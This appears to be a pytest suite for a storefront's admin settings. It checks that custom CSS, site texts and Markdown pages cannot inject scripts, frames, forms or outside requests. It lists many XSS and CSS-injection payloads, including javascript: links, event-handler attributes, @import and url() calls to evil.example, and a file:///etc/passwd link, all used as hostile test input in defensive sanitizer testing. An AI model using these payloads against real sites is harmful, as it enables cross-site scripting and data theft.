"""What administrators write becomes neither a script nor a request: attempts at both."""

import json
import re

import pytest

from adsvc.kit.markup import stylesheet_fault
from support.scene.api import Api, Person
from support.scene.storefront import Elements

# Each is refused, as the value of `css`.
STYLES = (
    '@import "https://evil.example/a.css";',
    "@import url(//evil.example/a.css);",
    "@IMPORT 'a.css';",
    "@\\69mport 'https://evil.example';",
    "@im/**/port 'x'; a{}",
    "@media screen{@import 'x';}",
    '@charset "utf-7";',
    '@namespace url("https://evil.example");',
    "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}",
    "@font-face{font-family:x;src:local('x')}",
    "a{background:url(https://evil.example/?)}",
    "a{background:url( 'https://evil.example/' )}",
    "a{background:url(//evil.example/)}",
    "a{background:url(\\/\\/evil.example/)}",
    "a{background:url('/\\\\evil.example/')}",
    "a{background:url('/\\9/evil.example/')}",
    "a{background:u\\72l(https://evil.example/)}",
    "a{background:URL(HTTPS://EVIL.EXAMPLE/)}",
    "input[value^='a']{background:url(https://evil.example/?a)}",
    "a{background:url(javascript:alert(1))}",
    "a{background:url('data:text/html,<script>alert(1)</script>')}",
    "a{background:url('data:image/svg+xml,<svg onload=alert(1)>')}",
    "a{background:url(images/../../x)}",
    "a{background:image-set('https://evil.example/a.png' 1x)}",
    "a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}",
    "a{background:image('https://evil.example/a.png')}",
    "a{background:src('https://evil.example/a.png')}",
    "a{background:cross-fade(url(https://evil.example/),red)}",
    "a{background:element(#x)}",
    "a{--x:url(https://evil.example/);background:var(--x)}",
    "a{width:expression(alert(1))}",
    "a{behavior:url(#default#time2)}",
    "a{-moz-binding:url('https://evil.example/x.xml#x')}",
    "a{cursor:url(https://evil.example/c.cur),auto}",
    "a{color:red}}</style><script>alert(1)</script>",
    "a{color:red}</STYLE >",
    "/* </style> */",
    "<!-- a{} -->",
    "a{background:url(https://evil.example/",
    "a{content:'unclosed\n}",
    "a{color:red}}",
    "@document url(https://site.example){a{}}",
    "@view-transition{navigation:auto}",
)
# Each is stored, and shown as text.
TEXTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</h1><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<!-- --!><script>alert(1)</script>",
    "<style>@import 'https://evil.example'</style>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)",
    "]]><script>alert(1)</script>",
    "\u2028alert(1)",
)
# Each is stored as the text of a page in Markdown, and becomes no script, frame, form or event.
MARKDOWN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "</main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](/a "onmouseover=alert(1)")',
    "[x](/a 'y\" onmouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onmouseover="alert(1)\ny\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <b onclick=alert(1)> | [x](javascript:1) |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "{{ 7 * 7 }}{% include 'head.jinja' %}",
)
# Pages of every first view, and what else has the site's texts.
PAGES = ("/", "/search", "/console", "/manifest.webmanifest", "/ads.atom", "/site")


async def require_harmless_page(admin: Person, attempt: str) -> None:
    sent = {"title": {"en": attempt[:100]}, "text": {"en": attempt}}
    saved = await admin.put("/admin/pages/hostile", json=sent)
    assert saved.status_code == 200, saved.text
    page = await admin.client.get("/pages/hostile")
    assert "script" not in page.headers["Content-Security-Policy"]
    elements = Elements(page.text).tags
    # The form and the symbol of the search box are the storefront's own.
    assert [attributes.get("action") for name, attributes in elements if name == "form"] == [
        "/search"
    ]
    assert [attributes.get("class") for name, attributes in elements if name == "svg"] == ["icon"]
    names = {name for name, _ in elements}
    assert not names & {"script", "iframe", "object", "embed", "style", "base", "math", "template"}
    for name, attributes in elements:
        assert not [one for one in attributes if one.startswith(("on", "srcdoc", "formaction"))]
        address = str(attributes.get("href") or attributes.get("src"))
        assert not re.match(r"(?i)\W*(javascript|vbscript|data|file):", address), name
    assert (await admin.client.get("/")).status_code == 200


@pytest.mark.parametrize("attempt", [*STYLES, *TEXTS, *MARKDOWN])
async def test_an_injection_changes_nothing(api: Api, attempt: str) -> None:
    admin = await api.admin()
    if attempt in MARKDOWN:
        await require_harmless_page(admin, attempt)
        return
    plain = await api.client.get("/", headers={"Accept": "text/html"})
    if attempt in STYLES:
        answer = await admin.patch("/admin/site", json={"css": attempt})
        assert answer.status_code == 400, attempt
        [fault] = answer.json()["errors"]
        assert (fault["pointer"], fault["code"]) == ("/css", "wrong-format")
        assert (await admin.get("/admin/site")).json()["css"] == ""
        return
    texts = {"headline": attempt, "welcome": attempt, "banner": attempt}
    members = {name: {"en": text} for name, text in texts.items()} | {"name": attempt[:60]}
    assert (await admin.patch("/admin/site", json=members)).status_code == 200
    page = await api.client.get("/", headers={"Accept": "text/html", "Accept-Language": "en"})
    scripts = re.findall(r"<script[^>]*>", page.text)
    assert scripts == re.findall(r"<script[^>]*>", plain.text)
    assert not re.findall(r"<(?:img|svg/|b |style)[^>]*(?:onerror|onload|onmouse)", page.text)
    policy = "Content-Security-Policy"
    assert page.headers[policy] == plain.headers[policy]
    [frame] = re.findall(r'<script type="application/json" id="site">(.*?)</script>', page.text)
    assert json.loads(frame)["name"] == json.loads(frame)["headline"]["en"][:60]
    for path in PAGES:
        other = await api.client.get(path)
        assert "<script>alert" not in other.text or "json" in other.headers["Content-Type"]


@pytest.mark.heavy
async def test_style_rules_are_not_nested_without_end(api: Api) -> None:
    admin = await api.admin()
    for css in ("(" * 3000, "a{" * 3000, "f(" * 3000):
        answer = await admin.patch("/admin/site", json={"css": css})
        assert (answer.status_code, answer.json()["errors"][0]["pointer"]) == (400, "/css"), css[:2]


async def test_style_rules_are_behind_the_storefronts_own(api: Api) -> None:
    admin = await api.admin()
    css = (
        "@media (width < 40rem) { .hero h1 { color: var(--accent-text) } }\n"
        "@supports (display: grid) { a:hover::before { content: '@import \\201C'; } }\n"
        "@keyframes turn { to { rotate: 1turn } } .brand { background: url(/images/a.png); "
        "mask: url('data:image/png;base64,iVBORw0KGgo=') }"
    )
    assert stylesheet_fault(css) is None
    answer = await admin.patch("/admin/site", json={"css": css, "colors": {"accent": "#ffcc00"}})
    assert answer.json()["css"] == css
    page = (await api.client.get("/", headers={"Accept": "text/html"})).text
    [theme] = re.findall(r'href="(/assets/theme-[^"]+\.css)"', page)
    sheet = await api.client.get(theme)
    assert sheet.headers["Content-Type"] == "text/css; charset=utf-8"
    assert sheet.text.endswith(css)
    assert "--accent:#ffcc00" in sheet.text
    assert "css" not in (await api.client.get("/site")).json()
    too_long = await admin.patch("/admin/site", json={"css": "a" * 32_769})
    assert too_long.status_code == 400
